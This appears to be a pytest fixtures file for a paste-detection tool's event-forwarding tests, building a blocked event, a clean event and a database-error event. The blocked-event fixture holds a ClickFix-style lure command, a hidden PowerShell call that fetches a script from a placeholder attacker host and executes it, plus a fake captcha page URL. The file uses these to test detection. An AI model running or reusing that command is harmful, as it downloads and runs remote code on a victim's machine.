"""Events for the forwarding tests: real verdicts from the engine, an error, a clean paste."""

from __future__ import annotations

import pytest

from app.detection import Engine
from app.detection.model import Context, PasteTarget
from app.events import Action, Event, EventKind
from tests.app.forwarding.fakes import T0

CLICKFIX = (
    'powershell -w hidden -c "iwr https://user:hunter2@evil.test/a.ps1 | iex"'
    " # I am not a robot - Verification ID: 4821"
)
LURE_PAGE = "https://captcha.evil.test/verify?token=abcd1234efgh"
# Text that must never reach a collector: it was judged clean.
CLEAN_TEXT = "meeting notes CLEANMARKER-7f3a: send the draft to Ana"


@pytest.fixture(scope="session")
def flagged_event(engine: Engine) -> Event:
    verdict = engine.analyze(CLICKFIX, Context(source=LURE_PAGE, target=PasteTarget.RUN_DIALOG))
    event = Event.from_verdict(
        EventKind.PASTE_BLOCKED, verdict, CLICKFIX, action=Action.BLOCKED, time=T0
    )
    return event.with_id(42)


@pytest.fixture(scope="session")
def clean_event(engine: Engine) -> Event:
    verdict = engine.analyze(CLEAN_TEXT, Context(source="https://docs.example.com/notes"))
    return Event.from_verdict(EventKind.CLIPBOARD_FLAGGED, verdict, CLEAN_TEXT, time=T0).with_id(43)


@pytest.fixture(scope="session")
def error_event() -> Event:
    return Event(
        kind=EventKind.ERROR,
        time=T0,
        summary="The event database was damaged; a new one was started.",
        details={"error": "database disk image is malformed", "type": "DatabaseError"},
        id=44,
    )
